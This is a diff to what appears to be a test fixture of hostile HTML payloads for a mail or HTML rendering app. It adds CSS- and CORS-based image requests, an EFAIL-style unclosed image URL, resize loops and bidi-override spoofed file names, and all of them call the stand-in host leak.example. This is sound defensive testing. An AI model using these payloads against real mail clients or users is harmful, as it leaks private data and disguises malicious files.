@@ -254,5 +254,34 @@ export function hostilePayloads(app: string): HostilePayload[] {
       source: 'DOM clobbering and target=_top navigation (DOMPurify SANITIZE_NAMED_PROPS)',
       html: `<form name="location"><input name="href" value="javascript:${P('ai')}"></form><a href="https://leak.example/" target="_top" id="top">top</a><img name="getElementById">`,
     },
+    {
+      id: 'css-cors-mode-images',
+      source:
+        'CORS-mode image loads that named the app in Origin (issue 12 item 11): mask-image, shape-outside, an SVG mask',
+      html: `<div style="width:9px;height:9px;mask-image:url(https://leak.example/mask.png);-webkit-mask-image:url(/leak/mask)"></div><div style="float:left;width:9px;height:9px;shape-outside:url(https://leak.example/shape.png)"></div><svg width="9" height="9"><rect width="9" height="9" mask="url(https://leak.example/m.svg#m)"/></svg><img crossorigin src="https://leak.example/cors.png">`,
+    },
+    {
+      id: 'css-referer-images',
+      source:
+        'Images loaded from CSS that carried Referer: <app URL> (issue 12 item 11): border-image, list-style-image, cursor',
+      html: `<div style="border:8px solid;border-image:url(https://leak.example/border.png) 8">b</div><ul style="list-style-image:url(https://leak.example/list.png)"><li>i</li></ul><p style="cursor:url(https://leak.example/cursor.png),auto">c</p>`,
+    },
+    {
+      id: 'efail-unclosed-image',
+      source:
+        'EFAIL direct exfiltration (Poddebniak et al., USENIX Security 2018): an image URL left open at the end of a part',
+      html: `<img src="https://leak.example/efail?d=`,
+    },
+    {
+      id: 'resize-loops',
+      source: 'Sizing loops (issue 12 item 13): a stepped animation, 1000vh, height: 100% with padding',
+      html: `<style>@keyframes g{from{height:10px}to{height:900px}}.g{animation:g .4s steps(4) infinite}html,body{height:100%}body{padding:40px}</style><div class="g">g</div><div style="height:1000vh">v</div>`,
+    },
+    {
+      id: 'bidi-override-text',
+      source:
+        'Bidi overrides in mail text (CVE-2021-42574, "Trojan Source", in mail): reversed URLs and file names',
+      html: `<p>invoice\u202Etxt.exe</p><a href="https://leak.example/\u202E">\u202Emoc.elpmaxe</a>`,
+    },
   ];
 }
